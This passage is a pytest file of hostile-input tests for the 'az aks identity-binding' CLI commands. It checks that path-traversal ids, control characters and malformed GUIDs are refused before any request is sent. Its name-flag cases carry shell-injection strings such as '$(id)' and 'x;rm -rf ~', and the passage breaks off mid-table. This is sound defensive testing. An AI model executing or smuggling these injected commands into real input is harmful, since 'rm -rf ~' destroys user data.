"""Hostile input, through the real `az` in-process: what a careless or malicious argument gets.

Every case runs one whole `az aks identity-binding ...` command (tests/playback.run) and asserts

* the exit code of az's conventions: 2 for a bad argument or combination of arguments, 3 for
  something that does not exist, 1 when a confirmation cannot be asked for;
* that the message names the bad value, the way messages quote values (Python repr: control
  characters escaped, a very long value by its first characters), or the file, or the flags in
  conflict;
* that nothing crashed: no "Traceback", no "unexpected error" in stderr;
* and, for every refused value, that not a single request was sent: the cassette `no_requests` has
  no interactions (any request would fail playback) and the transport spy saw none
  (`r.requests == []`). `delete -n .. --yes` must not become a DELETE of the cluster.

Values only the service can judge (a valid but unusual name such as the resource group 'a..b' or
'grüppe', answered 404 by the cassette `bad_input_unusual_names`, or 'my-binding' in
`create_bad_name`) are sent: those cases assert instead that every request stayed inside the
resource it was meant for: its URL path, normalised as `requests` sends it, starts with that
resource's path and has no dot segment, not even a percent-encoded one.

The cases are tables, one per category, with short ASCII ids. A case marked
xfail(strict=True, reason="BUG: ...") is a product bug the case shows; the reason says what happens.
"""
import json
import os
import time
from urllib.parse import quote, unquote, urlsplit

import pytest
from requests.models import PreparedRequest

from playback import CLUSTER, IDENTITY_ID, RG, SUB, run

NAME = "identitybinding1"
CLIENT_ID = "3f2b8c4e-9a1d-4e6f-8b7a-2c5d9e0f1a3b"
TENANT_ID = "11111111-1111-1111-1111-111111111111"
LONG = "a" * 64
HUGE = "a" * 10_000
ID_PREFIX = "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg/providers/"
BINDING = ["-g", RG, "--cluster-name", CLUSTER, "-n", NAME]
SA = ["--service-account", "demo/workload"]
IDENTITY = ["--managed-identity-resource-id", IDENTITY_ID]


def arm_path(*segments):
    return "".join("/" + quote(s, safe="") for s in segments)


def cluster_path(rg=RG, cluster=CLUSTER):
    return arm_path("subscriptions", SUB, "resourceGroups", rg, "providers", "Microsoft.ContainerService",
                    "managedClusters", cluster)


def binding_path(rg=RG, cluster=CLUSTER, name=NAME):
    return cluster_path(rg, cluster) + arm_path("identityBindings", name)


def identity_path(rg="identity-rg", name="identity1"):
    return arm_path("subscriptions", SUB, "resourceGroups", rg, "providers", "Microsoft.ManagedIdentity",
                    "userAssignedIdentities", name)


def quoted(value, limit=40):
    """How a message shows a value: its repr, or for a long one the start of the repr of its first characters."""
    return repr(value) if len(value) <= limit else repr(value[:limit])[:-1]


def flag(option, value):
    """[option, value], or [option=value] where argparse would take the value for an option."""
    return [f"{option}={value}"] if value.startswith("-") else [option, value]


class Case:
    def __init__(self, args, exit_code, shows, cassette, inside, stream):
        self.args, self.exit_code, self.shows = list(args), exit_code, shows
        self.cassette, self.inside, self.stream = cassette, inside, stream


def case(case_id, args, *shows, exit_code=2, cassette="no_requests", inside=None, stream="err", bug=None):
    """One table row. `shows`: texts stderr (or stdout, stream="out") must contain. `inside`: the
    resource path(s) requests may go to; None means no request at all. `bug`: the product bug it shows."""
    marks = [pytest.mark.xfail(strict=True, reason=f"BUG: {bug}")] if bug else []
    inside = (inside,) if isinstance(inside, str) else inside
    return pytest.param(Case(args, exit_code, shows, cassette, inside, stream), id=case_id, marks=marks)


def az(cassette, *args):
    return run(cassette, "aks", "identity-binding", *args)


def sent_path(url):
    """The path of a URL as requests sends it."""
    prepared = PreparedRequest()
    prepared.prepare_url(url, None)
    return urlsplit(prepared.url).path


def assert_stays_inside(r, paths):
    assert r.requests, r
    for method, url, _ in r.requests:
        path = sent_path(url)
        segments = path.split("/")[1:]
        decoded = [unquote(s) for s in segments]
        assert not any(s in (".", "..") or "/" in s or "\\" in s for s in decoded), (method, url)
        assert any(path == p or path.startswith(p + "/") for p in paths), (method, url, paths)


def assert_case(c, r):
    assert r.exit_code == c.exit_code, r
    text = r.err
    if c.stream == "out":  # az's JSON output, decoded (it may escape non-ASCII characters)
        text = json.dumps(r.json(), ensure_ascii=False) if r.out.strip() else ""
    for shown in c.shows:
        assert shown in text, (shown, r)
    assert "Traceback" not in r.err, r
    assert "unexpected error" not in r.err, r
    if c.inside is None:
        assert r.requests == [], r
    else:
        assert_stays_inside(r, c.inside)


def run_case(c, args=None):
    r = az(c.cassette, *(c.args if args is None else args))
    assert_case(c, r)
    return r


# == 1. identity resource ids =====================================================================

ID_DOTDOT = IDENTITY_ID.rsplit("/", 1)[0] + "/.."
DOTDOT = ["'..'", "dot segment"]


def create_with(identity):
    return ["create", *BINDING, *flag("--managed-identity-resource-id", identity)]


def identity_case(case_id, identity, *shows, **kwargs):
    """create with this --managed-identity-resource-id; the message shows the whole id (up to 300 characters)."""
    return case(case_id, create_with(identity), quoted(identity, 300), *shows, **kwargs)


IDENTITY_CASES = [
    # '..' as the identity name, wherever an identity id is taken
    case("id-dotdot-create", create_with(ID_DOTDOT), repr(ID_DOTDOT), *DOTDOT),
    case("id-dotdot-rbac", ["generate-rbac", "--managed-identity-resource-id", ID_DOTDOT, "--service-account",
                            "demo/app"], repr(ID_DOTDOT), *DOTDOT),
    case("id-dotdot-cleanup", ["cleanup-fic", "--managed-identity-resource-id", ID_DOTDOT, "--yes"],
         repr(ID_DOTDOT), *DOTDOT),
    case("id-dotdot-cleanup-noyes", ["cleanup-fic", "--managed-identity-resource-id", ID_DOTDOT],
         repr(ID_DOTDOT), *DOTDOT),  # refused while parsing: exit 2, before the confirmation (exit 1)
    case("id-dotdot-check", ["check", "-g", RG, "--cluster-name", CLUSTER, "--managed-identity-resource-id", ID_DOTDOT,
                             *SA, "--skip-cluster"], repr(ID_DOTDOT), *DOTDOT),
    case("id-dotdot-list-fleet", ["list", "--managed-identity-resource-id", ID_DOTDOT], repr(ID_DOTDOT), *DOTDOT),
    case("id-dotdot-list-group", ["list", "-g", RG, "--managed-identity-resource-id", ID_DOTDOT], repr(ID_DOTDOT),
         *DOTDOT),
    case("id-dotdot-list-cluster", ["list", "-g", RG, "--cluster-name", CLUSTER, "--managed-identity-resource-id",
                                    ID_DOTDOT], repr(ID_DOTDOT), *DOTDOT),
    identity_case("id-dot-name", IDENTITY_ID.rsplit("/", 1)[0] + "/.", "'.'", "dot segment"),
    identity_case("id-dotdot-after-name", IDENTITY_ID + "/..", *DOTDOT),
    identity_case("id-dotdot-climb", IDENTITY_ID + "/../../../../managedClusters/c1", *DOTDOT),
    identity_case("id-dotdot-group", IDENTITY_ID.replace("identity-rg", ".."), *DOTDOT),
    identity_case("id-dotdot-sub", IDENTITY_ID.replace(SUB, ".."), *DOTDOT),
    # not a resource id at all
    case("id-empty", create_with(""), "managed identity resource id must not be empty"),
    case("id-blank", create_with("  \t "), "managed identity resource id must not be empty"),
    case("id-guid", create_with("3f2b8c4e-9a1d-4e6f-8b7a-2c5d9e0f1a3b"),
         "'3f2b8c4e-9a1d-4e6f-8b7a-2c5d9e0f1a3b'", "is a GUID (a client or object id), not a resource id"),
    case("id-name-only", create_with("identity1"), "'identity1'", "is not a resource id"),
    case("id-dash-option", create_with("-identity1"), "'-identity1'", "is not a resource id"),
    identity_case("id-no-slash", IDENTITY_ID[1:], "starts with '/subscriptions/'"),
    identity_case("id-url", "https://management.azure.com" + IDENTITY_ID, "is not a resource id"),
    # missing or wrong parts
    identity_case("id-no-name", IDENTITY_ID.rsplit("/", 1)[0], "expected .../providers/NAMESPACE/TYPE/NAME"),
    identity_case("id-sub-only", f"/subscriptions/{SUB}", "is not the resource id of a user-assigned managed identity"),
    identity_case("id-no-group", IDENTITY_ID.replace("/resourceGroups/identity-rg", ""),
                  "is not the resource id of a user-assigned managed identity"),
    identity_case("id-wrong-provider", ID_PREFIX + "Microsoft.ContainerService/managedClusters/c1",
                  "is not the resource id of a user-assigned managed identity"),
    identity_case("id-wrong-type", ID_PREFIX + "Microsoft.ManagedIdentity/identities/id1",
                  "is not the resource id of a user-assigned managed identity"),
    identity_case("id-child-fic", ID_PREFIX + "Microsoft.ManagedIdentity/userAssignedIdentities/id1/"
                  "federatedIdentityCredentials/f", "is not the resource id of a user-assigned managed identity"),
    identity_case("id-extension-resource", IDENTITY_ID + "/providers/Microsoft.Authorization/locks/l1",
                  "is not the resource id of a user-assigned managed identity"),
    identity_case("id-sub-not-guid", IDENTITY_ID.replace(SUB, "my-subscription"), "'my-subscription'", "is not a GUID"),
    identity_case("id-group-space", IDENTITY_ID.replace("identity-rg", "bad rg"), "contains ' '"),
    identity_case("id-part-padded", IDENTITY_ID.replace("/identity-rg/", "/ identity-rg /"), "' identity-rg '",
                  "starts or ends with white space"),
    identity_case("id-group-91", IDENTITY_ID.replace("identity-rg", "r" * 91), "the limit is 90"),
    identity_case("id-name-short", IDENTITY_ID.replace("identity1", "ab"), "'ab'", "is not valid"),
    identity_case("id-name-dash", IDENTITY_ID.replace("identity1", "-identity"), "'-identity'", "is not valid"),
    identity_case("id-name-unicode", IDENTITY_ID.replace("identity1", "idéntity"), "'idéntity'", "contains 'é'"),
    # characters that change the shape of a URL, encoded or not
    identity_case("id-pct-dotdot", IDENTITY_ID.replace("identity1", "%2e%2e"), "'%2e%2e'", "contains '%'"),
    identity_case("id-pct-slash", IDENTITY_ID.replace("identity1", "a%2Fb"), "'a%2Fb'", "contains '%'"),
    identity_case("id-backslash", IDENTITY_ID.replace("identity-rg", "identity-rg\\.."), "contains '\\\\'"),
    identity_case("id-query", IDENTITY_ID + "?x=1", "'identity1?x=1'", "contains '?'"),
    identity_case("id-fragment", IDENTITY_ID + "#frag", "'identity1#frag'", "contains '#'"),
    identity_case("id-nul", IDENTITY_ID.replace("identity1", "ident\x00ity1"), "'ident\\x00ity1'", "U+0000"),
    identity_case("id-newline", IDENTITY_ID.replace("identity1", "ident\nity1"), "'ident\\nity1'", "U+000A"),
    identity_case("id-del", IDENTITY_ID + "\x7f", "'identity1\\x7f'", "U+007F"),
    identity_case("id-10k", IDENTITY_ID + HUGE, "(10009 characters)", "the limit is 128"),
]


@pytest.mark.parametrize("c", IDENTITY_CASES)
def test_identity_ids(c):
    r = run_case(c)
    assert "ERROR: argument --managed-identity-resource-id" in r.err  # names the flag


IDENTITY_NORMALISED = [
    # accepted, and sent in the one canonical spelling
    pytest.param("/" + IDENTITY_ID, id="id-double-slash"),
    pytest.param("/" + IDENTITY_ID.replace("/providers/", "//providers/") + "/", id="id-slashes-everywhere"),
    pytest.param(f"  {IDENTITY_ID}\n", id="id-surrounding-space"),
    pytest.param(IDENTITY_ID.replace("resourceGroups", "RESOURCEGROUPS").replace("userAssignedIdentities",
                                                                                 "userassignedidentities"),
                 id="id-key-casing"),
]


@pytest.mark.parametrize("identity", IDENTITY_NORMALISED)
def test_identity_id_is_sent_in_canonical_form(identity):
    r = az("create_lro", "create", *BINDING, "--managed-identity-resource-id", identity)
    assert r.exit_code == 0, r
    assert "Traceback" not in r.err and "unexpected error" not in r.err
    puts = [body for method, _, body in r.requests if method == "PUT"]
    assert puts and puts[0]["properties"]["managedIdentity"]["resourceId"] == IDENTITY_ID
    assert_stays_inside(r, [binding_path(), "/subscriptions/" + SUB + "/providers/Microsoft.ContainerService"])


@pytest.mark.parametrize("identity_id, canonical", [
    # casing of the fixed segments, '//' and a trailing '/' are normalised; names keep their casing
    (IDENTITY_ID.replace("resourceGroups", "resourcegroups").replace("Microsoft.ManagedIdentity",
                                                                     "microsoft.managedidentity"), IDENTITY_ID),
    ("/" + IDENTITY_ID.replace("/providers/", "//providers/") + "/", IDENTITY_ID),
    (IDENTITY_ID.replace("identity-rg", "My_RG.(prod)-1"), IDENTITY_ID.replace("identity-rg", "My_RG.(prod)-1")),
    (IDENTITY_ID.replace("identity-rg", "grüppe"), IDENTITY_ID.replace("identity-rg", "grüppe")),
])
def test_valid_identity_ids_pass_validation(identity_id, canonical):
    from azext_identitybinding._validators import identity_resource_id
    assert identity_resource_id(f"  {identity_id}  ") == canonical


# == 2. names: -g, --cluster-name, -n =============================================================

COMMANDS = {
    # command -> (words, the other arguments it needs, the name flags it takes)
    "show": (["show"], [], ("-g", "--cluster-name", "-n")),
    "delete": (["delete"], ["--yes"], ("-g", "--cluster-name", "-n")),
    "update": (["update"], ["--allow-namespace", "team-a"], ("-g", "--cluster-name", "-n")),
    "create": (["create"], IDENTITY, ("-g", "--cluster-name", "-n")),
    "check": (["check"], [*SA, "--skip-cluster"], ("-g", "--cluster-name", "-n")),
    "rbac": (["generate-rbac"], ["--service-account", "demo/app"], ("-g", "--cluster-name", "-n")),
    "manifests": (["generate-manifests"], ["--service-account", "demo/app"], ("-g", "--cluster-name", "-n")),
    "wait": (["wait"], ["--exists"], ("-g", "--cluster-name", "-n")),
    "list": (["list"], [], ("-g", "--cluster-name")),
}
WHAT = {"-g": "resource group name", "--cluster-name": "cluster name", "-n": "identity binding name"}
SHORT = {"-g": "g", "--cluster-name": "c", "-n": "n"}


def named(command, option, value):
    """`command` with every name flag given, `option` set to `value`."""
    words, extra, options = COMMANDS[command]
    values = {"-g": RG, "--cluster-name": CLUSTER, "-n": NAME}
    values[option] = value
    args = list(words)
    for opt in options:
        args += flag(opt, values[opt])
    return args + list(extra)


def name_case(label, command, option, value, *shows, **kwargs):
    return case(f"{SHORT[option]}-{label}-{command}", named(command, option, value), *shows, **kwargs)


NAME_CASES = [
    # the headline: a dot segment anywhere in a name is refused before the URL exists. Every command,
    # every name flag: `delete -n .. --yes` would otherwise DELETE .../managedClusters/cluster1.
    *[name_case("dotdot", command, option, "..", f"the {WHAT[option]} '..' cannot be used", "dot segment")
      for command, (_, _, options) in COMMANDS.items() for option in options],
    *[name_case("dot", command, options[-1], ".", f"the {WHAT[options[-1]]} '.' cannot be used", "dot segment")
      for command, (_, _, options) in COMMANDS.items()],
    case("n-dotdot-delete-cleanup", ["delete", *BINDING[:4], "-n", "..", "--cleanup-fic", "--yes"], "'..'",
         "dot segment"),
    # empty and blank
    name_case("empty", "show", "-n", "", "identity binding name must not be empty"),
    name_case("empty", "show", "--cluster-name", "", "cluster name must not be empty"),
    name_case("empty", "show", "-g", "", "resource group name must not be empty"),
    name_case("empty", "delete", "-n", "", "must not be empty"),
    name_case("blank", "delete", "-g", "  \t ", "resource group name must not be empty"),
    # too long
    name_case("64", "show", "-n", LONG, quoted(LONG), "the limit is 63"),
    name_case("64", "show", "--cluster-name", LONG, quoted(LONG), "the limit is 63"),
    name_case("91", "show", "-g", "r" * 91, quoted("r" * 91), "the limit is 90"),
    name_case("10k", "update", "-n", HUGE, quoted(HUGE), "(10000 characters)", "the limit is 63"),
    name_case("10k", "create", "-g", HUGE, quoted(HUGE), "(10000 characters)", "the limit is 90"),
    name_case("10k", "check", "--cluster-name", HUGE, quoted(HUGE), "(10000 characters)", "the limit is 63"),
    # not the characters of a name
    name_case("unicode", "show", "-n", "bïnding", "'bïnding'", "contains 'ï'"),
    name_case("unicode", "create", "--cluster-name", "clüster", "'clüster'", "contains 'ü'"),
    name_case("emoji", "list", "-g", "rg\U0001F600", "contains '\U0001F600'"),
    name_case("zero-width", "show", "-g", "r\u200bg", "'r\\u200bg'", "contains '\\u200b'"),
    name_case("nbsp", "list", "--cluster-name", "c\u00a01", "'c\\xa01'", "contains '\\xa0'"),
    name_case("bidi", "wait", "-n", "a\u202eb", "'a\\u202eb'", "contains '\\u202e'"),
    name_case("trailing-dot", "show", "-g", "rg.", "'rg.'", "not ending in '.'"),
    name_case("three-dots", "delete", "-g", "...", "'...'", "not ending in '.'"),
    name_case("inner-dot", "show", "-n", "a.b", "'a.b'", "contains '.'"),
    # shell metacharacters: refused as characters, never run
    name_case("subst", "delete", "-n", "$(id)", "'$(id)'", "contains '$'"),
    name_case("subst", "show", "-g", "$(id)", "'$(id)'", "contains '$'"),
    name_case("semicolon", "show", "-n", "x;rm -rf ~", "'x;rm -rf ~'", "contains ';'"),
    name_case("backtick", "update", "--cluster-name", "`id`", "'`id`'", "contains '`'"),
    name_case("pipe", "check", "-g", "a|b", "'a|b'", "contains '|'"),
    name_case("amp", "rbac", "-n", "a&b", "'a&b'", "contains '&'"),
    name_case("star", "list", "--cluster-name", "*", "'*'", "contains '*'"),
    name_case("redirect", "create", "-n", "a>b", "'a>b'", "contains '>'"),
    # characters that change the shape of a URL, encoded or not
    name_case("slash", "show", "-n", "a/b", "'a/b'", "contains '/'"),
    name_case("climb", "delete", "-n", "../../x", "'../../x'", "contains '/'"),
    name_case("climb", "show", "-g", "a/../b", "'a/../b'", "contains '/'"),
    name_case("backslash", "delete", "-g", "rg\\..", "'rg\\\\..'", "contains '\\\\'"),
    name_case("question", "list", "--cluster-name", "c?x", "'c?x'", "contains '?'"),
    name_case("hash", "create", "-n", "a#b", "'a#b'", "contains '#'"),
    name_case("percent", "wait", "-n", "a%b", "'a%b'", "contains '%'"),
    name_case("pct-dotdot", "delete", "-n", "%2e%2e", "'%2e%2e'", "contains '%'"),
    name_case("pct-dotdot", "list", "-g", "%2E%2E", "'%2E%2E'", "contains '%'"),
    name_case("pct-slash", "show", "--cluster-name", "c%2Fx", "'c%2Fx'", "contains '%'"),
    # white space and control characters
    name_case("space", "show", "-n", "a b", "'a b'", "contains ' '"),
    name_case("space", "rbac", "-g", "bad rg", "'bad rg'", "contains ' '"),
    name_case("tab", "delete", "--cluster-name", "a\tb", "'a\\tb'", "U+0009"),
    name_case("newline", "update", "-n", "a\nb", "'a\\nb'", "U+000A"),
    name_case("cr", "check", "-n", "a\rb", "'a\\rb'", "U+000D"),
    name_case("nul", "show", "-g", "a\x00b", "'a\\x00b'", "U+0000"),
    name_case("del", "list", "--cluster-name", "a\x7fb", "'a\\x7fb'", "U+007F"),
    # a byte of argv that is not UTF-8 arrives as a lone surrogate (surrogateescape)
    name_case("surrogate", "show", "-g", "rg\udcff", "'rg\\udcff'", "U+DCFF"),
    name_case("surrogate", "delete", "-n", "x\udcff", "'x\\udcff'", "U+DCFF"),
    # a leading '-', given as -n=VALUE so that argparse takes it as the value
    name_case("dash", "show", "-n", "-x", "'-x'", "is not valid"),
    name_case("dash", "delete", "--cluster-name", "--x", "'--x'", "is not valid"),
    case("n-missing-value-delete", ["delete", "-g", RG, "--cluster-name", CLUSTER, "-n", "--yes"],
         "argument --name/-n: expected one argument"),
]


@pytest.mark.parametrize("c", NAME_CASES)
def test_names(c):
    r = run_case(c)
    assert "ERROR: argument" in r.err  # names the flag


UNUSUAL = "bad_input_unusual_names"
SERVICE_JUDGED = [
    # valid by Azure's naming rules, so sent; the service answers, and the request stays on the resource
    case("g-inner-dots", ["show", "-g", "a..b", "--cluster-name", CLUSTER, "-n", NAME], "Resource group 'a..b'",
         exit_code=3, cassette=UNUSUAL, inside=binding_path("a..b")),
    case("g-inner-dots-delete", ["delete", "-g", "a..b", "--cluster-name", CLUSTER, "-n", NAME, "--yes"],
         "Resource group 'a..b'", exit_code=3, cassette=UNUSUAL, inside=binding_path("a..b")),
    case("g-unicode", ["show", "-g", "grüppe", "--cluster-name", CLUSTER, "-n", NAME], "Resource group 'grüppe'",
         exit_code=3, cassette=UNUSUAL, inside=binding_path("grüppe")),
    case("g-unicode-list", ["list", "-g", "grüppe", "--cluster-name", CLUSTER], "Resource group 'grüppe'",
         exit_code=3, cassette=UNUSUAL, inside=cluster_path("grüppe")),
    case("g-parens", ["show", "-g", "(prod)", "--cluster-name", CLUSTER, "-n", NAME], "Resource group '(prod)'",
         exit_code=3, cassette=UNUSUAL, inside=binding_path("(prod)")),
    case("g-leading-dash", ["show", "-g=-x", "--cluster-name", CLUSTER, "-n", NAME], "Resource group '-x'",
         exit_code=3, cassette=UNUSUAL, inside=binding_path("-x")),
    case("cn-mixed-case", ["show", "-g", RG, "--cluster-name", "C_1", "-n", "My_Binding-1"], "Cluster 'C_1'",
         exit_code=3, cassette=UNUSUAL, inside=binding_path(RG, "C_1", "My_Binding-1")),
    case("id-unicode-group", ["generate-rbac", "--managed-identity-resource-id",
                              IDENTITY_ID.replace("identity-rg", "grüppe"), "--service-account", "demo/app"],
         "Managed identity", "grüppe", "was not found", exit_code=3, cassette=UNUSUAL,
         inside=identity_path("grüppe")),
    case("id-parens-group", ["cleanup-fic", "--managed-identity-resource-id",
                             IDENTITY_ID.replace("identity-rg", "My_RG.(prod)-1"), "--yes"],
         "Managed identity", "My_RG.(prod)-1", "was not found", exit_code=3, cassette=UNUSUAL,
         inside=identity_path("My_RG.(prod)-1")),
    # a hyphen is ours to accept and the service's to refuse: its message is shown
    case("n-hyphen-create", ["create", "-g", RG, "--cluster-name", CLUSTER, "-n", "my-binding", *IDENTITY],
         "InvalidParameter", "'my-binding'", exit_code=1, cassette="create_bad_name",
         inside=binding_path(name="my-binding")),
]


@pytest.mark.parametrize("c", SERVICE_JUDGED)
def test_values_only_the_service_can_judge_stay_on_their_resource(c):
    run_case(c)


# == 3. client and tenant ids =====================================================================

def rbac_client(client_id):
    return ["generate-rbac", *flag("--client-id", client_id), "--service-account", "demo/app"]


def rbac_tenant(tenant_id):
    return ["generate-rbac", "--client-id", CLIENT_ID, "--service-account", "demo/app", "--include-service-accounts",
            *flag("--tenant-id", tenant_id)]


GUID_EXPECTED = "expected a GUID in the form xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx"
GUID_CASES = [
    case("client-not-guid", rbac_client("not-a-guid"), "'not-a-guid'", GUID_EXPECTED),
    case("client-braces", rbac_client("{%s}" % CLIENT_ID), repr("{%s}" % CLIENT_ID), "Leave out the braces"),
    case("client-empty", rbac_client(""), "argument --client-id: ''", GUID_EXPECTED),
    case("client-10k", rbac_client(HUGE), quoted(HUGE), GUID_EXPECTED),
    case("client-resource-id", rbac_client(IDENTITY_ID), repr(IDENTITY_ID), "looks like an Azure resource ID"),
    case("client-short", rbac_client(CLIENT_ID[:-1]), repr(CLIENT_ID[:-1]), GUID_EXPECTED),
    case("client-long", rbac_client(CLIENT_ID + "0"), repr(CLIENT_ID + "0"), GUID_EXPECTED),
    case("client-not-hex", rbac_client(CLIENT_ID.replace("f", "g")), repr(CLIENT_ID.replace("f", "g")), GUID_EXPECTED),
    case("client-no-dashes", rbac_client(CLIENT_ID.replace("-", "")), repr(CLIENT_ID.replace("-", "")), GUID_EXPECTED),
    case("client-unicode-dash", rbac_client(CLIENT_ID.replace("-", "\u2010")), repr(CLIENT_ID.replace("-", "\u2010")),
         GUID_EXPECTED),
    case("client-fullwidth", rbac_client(CLIENT_ID.replace("3", "\uff13")), repr(CLIENT_ID.replace("3", "\uff13")),
         GUID_EXPECTED),
    case("client-inner-newline", rbac_client(CLIENT_ID[:8] + "\n" + CLIENT_ID[8:]),
         repr(CLIENT_ID[:8] + "\n" + CLIENT_ID[8:]), GUID_EXPECTED),
    case("client-nul", rbac_client(CLIENT_ID + "\x00"), repr(CLIENT_ID + "\x00"), GUID_EXPECTED),
    case("client-dash-option", rbac_client("-" + CLIENT_ID), repr("-" + CLIENT_ID), GUID_EXPECTED),
    case("tenant-not-guid", rbac_tenant("contoso.onmicrosoft.com"), "'contoso.onmicrosoft.com'", GUID_EXPECTED),
    case("tenant-empty", rbac_tenant(""), "argument --tenant-id: ''", GUID_EXPECTED),
    case("tenant-braces", rbac_tenant("{%s}" % TENANT_ID), repr("{%s}" % TENANT_ID), "Leave out the braces"),
    case("tenant-10k", rbac_tenant(HUGE), quoted(HUGE), GUID_EXPECTED),
]


@pytest.mark.parametrize("c", GUID_CASES)
def test_client_and_tenant_ids(c):
    run_case(c)


GUID_NORMALISED = [
    # white space around a pasted id is dropped: the GUID, lowercased, is all that reaches the RBAC objects
    pytest.param(CLIENT_ID + "\n", id="client-trailing-newline"),
    pytest.param(f" \t{CLIENT_ID.upper()}\r\n", id="client-padded-upper"),
]


@pytest.mark.parametrize("client_id", GUID_NORMALISED)
def test_client_id_is_normalised_offline(client_id):
    r = az("no_requests", "generate-rbac", "--client-id", client_id, "--service-account", "demo/app")
    assert r.exit_code == 0, r
    assert r.requests == [] and "Traceback" not in r.err
    role = r.json()["items"][0]
    assert role["rules"][0]["resources"] == [CLIENT_ID]
    assert role["metadata"]["name"] == f"use-mi-{CLIENT_ID}"


# == 4. service accounts, namespaces, labels, role names ==========================================

def rbac_sa(*accounts):
    return ["generate-rbac", "--client-id", CLIENT_ID, "--service-account", *accounts]


def rbac_ns(*namespaces):
    return ["generate-rbac", "--client-id", CLIENT_ID, "--namespace", *namespaces]


def update_with(*args):
    return ["update", *BINDING, *args]


LABEL = ["--allow-namespace", "team-a", "--allow-service-account-label"]
SUBJECT_CASES = [
    case("sa-no-slash", rbac_sa("demo"), "'demo'", "expected NAMESPACE/NAME"),
    case("sa-empty", rbac_sa(""), "''", "expected NAMESPACE/NAME"),
    case("sa-no-namespace", rbac_sa("/x"), "'/x'", "NAMESPACE (before '/') is empty"),
    case("sa-no-name", rbac_sa("x/"), "'x/'", "NAME (after '/') is empty"),
    case("sa-two-slashes", rbac_sa("a/b/c"), "'a/b/c'", "exactly one '/'"),
    case("sa-dotdot-namespace", rbac_sa("../x"), "'../x'", "the namespace '..' is not valid"),
    case("sa-dotdot-name", rbac_sa("x/.."), "'x/..'", "the service account name '..' is not valid"),
    case("sa-uppercase", rbac_sa("Demo/x"), "'Demo/x'", "uppercase"),
    case("sa-254", rbac_sa("demo/" + "a" * 254), "254 characters long"),
    case("sa-unicode", rbac_sa("démo/x"), "'démo/x'", "contains 'é'"),
    case("sa-space", rbac_sa("demo/work load"), "'demo/work load'", "contains ' '"),
    case("sa-nul", rbac_sa("demo/x\x00"), "'demo/x\\x00'", "contains '\\x00'"),
    case("sa-second-of-two", rbac_sa("demo/a", "../x"), "'../x'", "the namespace '..' is not valid"),
    case("sa-dotdot-check", ["check", *BINDING, "--service-account", "../x", "--skip-cluster"], "'../x'",
         "the namespace '..' is not valid"),
    case("sa-no-slash-check", ["check", *BINDING, "--service-account", "workload", "--skip-cluster"],
         "expected NAMESPACE/NAME"),
    case("ns-dotdot", rbac_ns(".."), "'..'", "not a valid namespace"),
    case("ns-uppercase", rbac_ns("Demo"), "'Demo'", "uppercase"),
    case("ns-64", rbac_ns(LONG), "64 characters long"),
    case("ns-empty", rbac_ns(""), "''", "not a valid namespace"),
    case("allow-ns-dotdot", update_with("--allow-namespace", ".."), "'..'", "not a valid namespace"),
    case("allow-ns-slash", update_with("--allow-namespace", "a/b"), "'a/b'", "contains '/'"),
    case("allow-ns-uppercase", update_with("--allow-namespace", "Team"), "'Team'"),
    case("label-no-equals", update_with(*LABEL, "a"), "'a'", "must be a 'key=value' string"),
    case("label-two-equals", update_with(*LABEL, "a=b=c"), "'a=b=c'", "must be a 'key=value' string"),
    case("label-no-key", update_with(*LABEL, "=x"), "''", "not a valid Kubernetes label key"),
    case("label-space-value", update_with(*LABEL, "a= b"), "' b'", "not a valid Kubernetes label value"),
    case("label-dotdot-value", update_with(*LABEL, "a=.."), "'..'", "not a valid Kubernetes label value"),
    case("label-bad-prefix", update_with(*LABEL, "a/b/c=x"), "'a/b/c'", "not a valid Kubernetes label key"),
    case("role-dotdot", ["generate-rbac", "--client-id", CLIENT_ID, "--service-account", "demo/app", "--role-name",
                         ".."], "'..'", "empty part between dots"),
    case("role-254", ["generate-rbac", "--client-id", CLIENT_ID, "--service-account", "demo/app", "--role-name",
                      "a" * 254], "254 characters long"),
    case("role-underscore", ["generate-rbac", "--client-id", CLIENT_ID, "--service-account", "demo/app",
                             "--role-name", "Bad_Name"], "'Bad_Name'"),
    # 101 namespaces make 101 entries: the service's limit is checked before any request (validate_update)
    case("allow-ns-101", update_with("--allow-namespace", *[f"team-{i}" for i in range(101)]),
         "--allow-namespace", "101 allowed subjects", "at most 100"),
]


@pytest.mark.parametrize("c", SUBJECT_CASES)
def test_service_accounts_namespaces_and_labels(c):
    run_case(c)


# == 5. flags that conflict or are missing ========================================================

KUBECONFIG = "@kubeconfig"           # replaced by the path of a valid kubeconfig file
SUBJECTS_FILE = "@subjects"          # replaced by the path of a valid allowed-subjects file
POD_FILE = "@podfile"                # replaced by the path of a valid Deployment manifest
FLAG_CASES = [
    case("list-nothing", ["list"], "give -g and --cluster-name", "--managed-identity-resource-id"),
    case("list-group-only", ["list", "-g", RG], "--managed-identity-resource-id"),
    case("list-cluster-without-group", ["list", "--cluster-name", CLUSTER], "--cluster-name needs -g/--resource-group"),
    case("delete-cleanup-no-wait", ["delete", *BINDING, "--cleanup-fic", "--no-wait", "--yes"],
         "--cleanup-fic cannot be combined with --no-wait"),
    case("update-label-without-ns", update_with("--allow-service-account-label", "app=api"),
         "narrows --allow-namespace"),
    case("update-no-subjects", update_with(), "give the new allowed subjects"),
    case("update-file-and-ns", update_with("--allowed-subjects-from-file", SUBJECTS_FILE, "--allow-namespace", "a"),
         "choose one of"),
    case("check-name-and-identity", ["check", *BINDING, *IDENTITY, *SA],
         "-n BINDING or --managed-identity-resource-id ID, not both"),
    case("check-skip-and-context", ["check", *BINDING, *SA, "--skip-cluster", "--context", "c1"],
         "--skip-cluster reads no kubeconfig"),
    case("check-skip-and-kubeconfig", ["check", *BINDING, *SA, "--skip-cluster", "--kubeconfig", KUBECONFIG],
         "--skip-cluster reads no kubeconfig"),
    case("check-no-service-account", ["check", *BINDING], "--service-account NAMESPACE/NAME is required with "
                                                          "--cluster-name"),
    case("check-nothing", ["check"], "give -g GROUP --cluster-name CLUSTER", "or --pod-file FILE (alone)"),
    case("check-cluster-without-group", ["check", "--cluster-name", CLUSTER, *SA], "-g is required with --cluster-name"),
    case("check-client-id-with-cluster", ["check", *BINDING, *SA, "--client-id", CLIENT_ID],
         "--client-id is for the offline manifest check"),
    # without --cluster-name only the manifests are checked: what needs Azure or the cluster is refused
    case("lint-with-binding-name", ["check", "-n", "ib1", "--pod-file", POD_FILE], "-n/--name needs the cluster"),
    case("lint-with-identity", ["check", *IDENTITY, "--pod-file", POD_FILE],
         "--managed-identity-resource-id needs the cluster"),
